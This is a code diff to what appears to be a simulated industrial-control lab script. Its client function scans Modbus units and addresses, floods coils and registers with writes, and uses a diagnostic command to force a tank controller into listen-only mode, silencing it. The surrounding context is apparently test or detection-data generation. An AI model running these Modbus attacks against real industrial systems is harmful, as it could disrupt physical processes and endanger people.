@@ -23,6 +23,7 @@ def server() -> None:
 def client() -> None:
     """Scan functions, addresses and units; write; attack the communication."""
     import struct
+    import time
     from contextlib import suppress
 
     from _modbus import ATTACKER, HMI, PUMP, TANK, connect
@@ -38,11 +39,11 @@ def client() -> None:
         rogue.recv(9)
     for address in range(1000, 1000 + 8 * 100, 100):
         rogue.read_holding_registers(address, count=10)
-    for unit in range(2, 6):
+    for unit in range(2, 26):
         rogue.read_coils(0, count=1, device_id=unit)
 
-    for coil in range(24):
-        rogue.write_coil(coil, coil % 2 == 0)
+    for attempt in range(120):
+        rogue.write_coil(attempt % 40, attempt % 2 == 0)
     for register in range(0, 60, 10):
         rogue.write_registers(register, [0xFFFF] * 10)
     rogue.write_coil(0, False, device_id=0, no_response_expected=True)
@@ -58,6 +59,7 @@ def client() -> None:
     silencer = connect(ATTACKER, TANK)
     silencer.diag_force_listen_only()
     silencer.close()
+    time.sleep(0.1)
     with suppress(ModbusIOException):  # the tank controller is mute now
         tank.read_holding_registers(0, count=20)
     hmi.read_holding_registers(0, count=20)
